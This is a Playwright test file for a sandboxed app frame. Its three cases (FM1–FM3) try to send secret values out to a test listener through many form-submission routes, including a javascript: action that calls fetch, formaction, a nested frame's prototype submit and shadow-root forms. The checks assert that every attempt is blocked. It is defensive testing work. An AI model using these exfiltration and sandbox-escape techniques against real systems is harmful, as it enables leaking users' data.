import { expect } from '@playwright/test';
import { at, failed, launcherIntact, noLeaks } from '../assertions.ts';
import { probeApp } from '../probeApp.ts';
import type { Row } from '../Row.ts';
import { openAndProbe } from '../rowHelpers.ts';

export const forms: Row[] = [
  {
    id: 'FM1',
    group: 'forms',
    attempt:
      "submit forms carrying data every way: POST action to the listener, target=_top, _blank, a named window, a child frame, a javascript: action, formaction on a button, a GET to the frame's own URL; by requestSubmit(), a submit button's click and form.submit(); then use the port",
    outcome:
      'every submit event fires and goes nowhere: no request, no new page, the frame keeps its page and its port (storage answers), no "left its page"',
    apps: {
      main: (env) =>
        probeApp(`
  const child = document.createElement('iframe');
  child.name = 'fm1-child';
  document.body.append(child);
  const own = location.origin + '/?d=fm1-secret';
  const cases = [
    ['post', { action: '${env.listener}/fm1-post', method: 'post' }],
    ['top', { action: '${env.listener}/fm1-top', target: '_top' }],
    ['blank', { action: '${env.listener}/fm1-blank', target: '_blank' }],
    ['named', { action: '${env.listener}/fm1-named', target: 'fm1-window' }],
    ['child', { action: '${env.listener}/fm1-child', target: 'fm1-child' }],
    ['javascript', { action: "javascript:fetch('${env.listener}/fm1-js')" }],
    ['own', { action: own, method: 'get' }],
  ];
  let submits = 0;
  window.addEventListener('submit', () => submits++);
  for (const [name, attrs] of cases) {
    const form = document.createElement('form');
    for (const [k, v] of Object.entries(attrs)) form.setAttribute(k, v);
    form.innerHTML = '<input name="d" value="fm1-secret"><button>send</button>';
    document.body.append(form);
    out[name + 'Request'] = await attempt(() => { form.requestSubmit(); return 'asked'; });
    out[name + 'Click'] = await attempt(() => { form.querySelector('button').click(); return 'clicked'; });
    out[name + 'Submit'] = await attempt(() => { form.submit(); return 'called'; });
  }
  const form = document.createElement('form');
  form.innerHTML = '<input name="d" value="fm1-secret"><button formaction="${env.listener}/fm1-formaction" formmethod="post" formtarget="_top">send</button>';
  document.body.append(form);
  form.querySelector('button').click();
  await wait(700);
  out.submits = submits;
  out.port = await attempt(async () => { await sdk.storage.set('fm1', 'kept'); return sdk.storage.get('fm1'); });
`),
    },
    async check(t) {
      const p = await openAndProbe(t);
      // Seven forms, each by requestSubmit and by its button; the formaction button once.
      expect(p.submits).toBe(15);
      expect(at(p, 'port')).toEqual({ ok: true, value: 'kept' });
      await noLeaks(t);
      expect(
        t.frameRequests().filter((u) => u.includes('fm1')),
        'frame site requests',
      ).toEqual([]);
      await t.page.waitForTimeout(300);
      await launcherIntact(t);
      await expect(t.frame().locator('pre[data-probe]')).toBeVisible();
    },
  },
  {
    id: 'FM2',
    group: 'forms',
    attempt:
      "submits around the runtime: a form posting to the listener, submitted with a nested frame's own HTMLFormElement.prototype.submit, and a form built in that frame's document",
    outcome:
      'the nested frame is a document of its own opaque origin: reaching its submit throws SecurityError, its document is null; nothing leaves; the app keeps its page',
    apps: {
      main: (env) =>
        probeApp(`
  const child = document.createElement('iframe');
  document.body.append(child);
  await wait(300);
  const form = document.createElement('form');
  form.action = '${env.listener}/fm2-post';
  form.method = 'post';
  form.innerHTML = '<input name="d" value="fm2-secret">';
  document.body.append(form);
  out.outer = await attempt(() => { child.contentWindow.HTMLFormElement.prototype.submit.call(form); return 'called'; });
  out.inner = await attempt(() => { child.contentDocument.createElement('form'); return 'made'; });
  await wait(500);
`),
    },
    async check(t) {
      const p = await openAndProbe(t);
      failed(at(p, 'outer'), 'SecurityError');
      failed(at(p, 'inner'), 'TypeError');
      await noLeaks(t);
      await launcherIntact(t);
    },
  },
  {
    id: 'FM3',
    group: 'forms',
    attempt:
      "forms the window never hears: inside an open and a closed shadow root (`submit` is not composed, so it stops at the root), posting to the listener and to the frame's own URL, by requestSubmit() and a button click; then use the port",
    outcome:
      'each submit event fires in its root and goes nowhere: no request, the frame keeps its page and its port (storage answers), no "left its page"',
    apps: {
      main: (env) =>
        probeApp(`
  let submits = 0;
  const roots = ['open', 'closed'].map((mode) => {
    const host = document.createElement('div');
    document.body.append(host);
    return host.attachShadow({ mode });
  });
  const targets = ['${env.listener}/fm3-post', location.origin + '/?d=fm3-secret'];
  for (const root of roots)
    for (const action of targets) {
      const form = document.createElement('form');
      form.action = action;
      form.method = 'post';
      form.innerHTML = '<input name="d" value="fm3-secret"><button>send</button>';
      form.addEventListener('submit', () => submits++);
      root.append(form);
      form.requestSubmit();
      await wait(200);
      form.querySelector('button').click();
      await wait(200);
    }
  await wait(500);
  out.submits = submits;
  out.port = await attempt(async () => { await sdk.storage.set('fm3', 'kept'); return sdk.storage.get('fm3'); });
`),
    },
    async check(t) {
      const p = await openAndProbe(t);
      expect(p.submits).toBe(8);
      expect(at(p, 'port')).toEqual({ ok: true, value: 'kept' });
      await noLeaks(t);
      expect(
        t.frameRequests().filter((u) => u.includes('fm3')),
        'frame site requests',
      ).toEqual([]);
      await launcherIntact(t);
      await expect(t.frame().locator('pre[data-probe]')).toBeVisible();
    },
  },
];
